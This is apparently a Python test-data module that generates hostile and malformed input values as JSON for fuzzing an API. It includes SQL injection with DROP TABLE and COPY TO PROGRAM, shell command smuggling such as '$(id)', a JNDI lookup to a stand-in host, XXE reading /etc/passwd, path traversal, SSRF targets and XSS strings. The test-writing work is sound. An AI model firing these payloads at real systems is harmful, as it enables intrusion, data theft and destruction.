"""Values to put where another was expected, as the JSON text that is sent."""

import json
from collections.abc import Iterator
from typing import Final

_SQL: Final = (
    "'", "''", '"', "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE sessions;--", "1; SELECT pg_sleep(10)--", "\\'; --",
    "' UNION SELECT digest FROM api_keys--", "admin'--", "$$; DROP TABLE returns; $$", "%27%20OR%201%3D1", "E'\\x27'",
    "1' AND (SELECT 1 FROM pg_sleep(5))='1", "x'); COPY api_keys TO PROGRAM 'id';--", "{1,2}", "NULL",
    "'||version()||'",
)  # fmt: skip
_LOG: Final = (
    "a\nb", "a\r\nb", "a\r\n\r\nb", '\n{"level":"ERROR","message":"forged"}', "a\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "a\x08\x08b", "a\tb", "a\x0bb", "a\x0cb", "a\x7fb", "a\x85b", "a\u2028b", "a\u2029b", "\x9b31m", "\x00", "a\x00b",
    "%0d%0aSet-Cookie: a=b", "\r\nX-Injected: 1", "\x1b[2J\x1b[H",
)  # fmt: skip
_FORMATS: Final = (
    "%s%s%s%s%n", "%x" * 20, "{}", "{0}", "{0.__class__.__mro__}", "{self.__init__.__globals__}", "%(password)s",
    "${7*7}",
    "{{7*7}}", "#{7*7}", "${jndi:ldap://a.example/a}", "$(id)", "`id`", "| id", "; id", "&& id", "<%= 7*7 %>",
    "%d" * 50,
)  # fmt: skip
_MARKUP: Final = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "<!--", "]]>", "&lt;",
    "&#0;",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "</style>",
)  # fmt: skip
_PATHS: Final = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.txt", "file:///etc/passwd",
    "....//....//etc",
    "http://169.254.169.254/latest/meta-data/", "//evil.example/", "C:\\", "\\\\evil.example\\a",
    "gopher://127.0.0.1:6379/_",
)  # fmt: skip
_UNICODE: Final = (
    "\u202etxt.exe", "\u200b", "\ufeff", "\u0000", "\uffff", "\U0010ffff", "\U0001f4a9", "e\u0301" * 100,
    "\u0430dmin",
    "\u212a", "\ufb01", "\u1e9e", "\u0130", "\u0131", "\u00df" * 64, "\u0661\u0662\u0663", "\uff11\uff12", "\u2167",
    "\u00b2",
    "\u3000", "\u00a0", "\u1680", "\u180e", "\u2066\u2069", "\ufffd", "\u0345" * 200, "\u0640" * 64,
    "\U000e0041\U000e0042",
    "\ud7ff\ue000", "\u061c", "Z\u0351\u036b\u0343" * 30, "\u05d0\u05d1", "\u0627\u0644", "\u4e2d" * 65,
)  # fmt: skip
_LONG: Final = ("A" * 65, "A" * 1000, "A" * 65_536, "A" * 200_000, "\u00e9" * 100_000, " " * 10_000, "\n" * 10_000)
_RAW_STRINGS: Final = (
    r'"\ud800"', r'"\udfff"', r'"\ud800\ud800"', r'"\udc00\ud800"', r'"a\ud83d"', r'"\u0000"', r'"\u000a"', r'"\x41"',
    r'"\u12"', r'"\u{41}"', '"a\nb"', '"a\x00b"', '"a\tb"', "'single'", '"unended', '"\\"', '""', '"\\/"', "`a`",
)  # fmt: skip
_NUMBERS: Final = (
    "-1", "-0", "-0.0", "0.001", "0.005", "1.005", "1e-7", "1e-400", "1e400", "1e4000", "1e999999999", "1e-999999999",
    "1E+2", "1e+99", "9" * 40, "9" * 41, "9" * 400, "9" * 5000, "0." + "0" * 39 + "1", "0." + "9" * 5000,
    "10000000000",
    "9999999999.999", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
    "1e11",
    "123456789012345678901234567890.12", "0.1e1e1", "00", "01", "+1", ".5", "5.", "1_000", "1,000", "0x10", "0b1",
    "1e", "-",
    "NaN", "Infinity", "-Infinity", "nan", "inf", "1.7976931348623157e308", "4.9e-324", "2147483648", "1d", "1L",
    "1n", "--1",
    "1" + "0" * 100_000, "1e" + "9" * 10_000, "0e0", "0E-41", "1.0" + "0" * 60,
)  # fmt: skip
_NUMBER_STRINGS: Final = (
    "NaN", "Infinity", "-Infinity", "1_000", "1e999999999", "150.00", "0x10", " 150 ", "\u0661\u0665\u0660", "sNaN",
    "1e400", "+1",
    "\u066b5",
)  # fmt: skip
_OTHER_TYPES: Final = (
    "null", "true", "false", "[]", "{}", "[[]]", "[{}]", "[null]", '{"a":1}', '{"$gt":""}',
    '{"__proto__":{"admin":true}}',
    '["sess_"]', "[true,false]", '{"":""}', '{"constructor":{"prototype":{}}}', "undefined", "None", "True", "0", "1",
    "[1,2",
    '{"$where":"sleep(1000)"}', '{"$ref":"#"}', "[[[[]]]]", '{"a":{"b":{"c":{"d":{}}}}}', "[" * 1000 + "]" * 1000,
)  # fmt: skip


def values() -> Iterator[tuple[str, str]]:
    """A name and the JSON text of each value."""
    spoken = {
        "sql": _SQL, "log": _LOG, "format": _FORMATS, "markup": _MARKUP, "path": _PATHS, "unicode": _UNICODE,
        "long": _LONG,
        "number as text": _NUMBER_STRINGS,
    }  # fmt: skip
    for family, texts in spoken.items():
        for number, text in enumerate(texts):
            yield f"{family} {number}", json.dumps(text, ensure_ascii=number % 2 == 0)
    for family, written in {"string": _RAW_STRINGS, "number": _NUMBERS, "type": _OTHER_TYPES}.items():
        for number, text in enumerate(written):
            yield f"{family} {number}", text
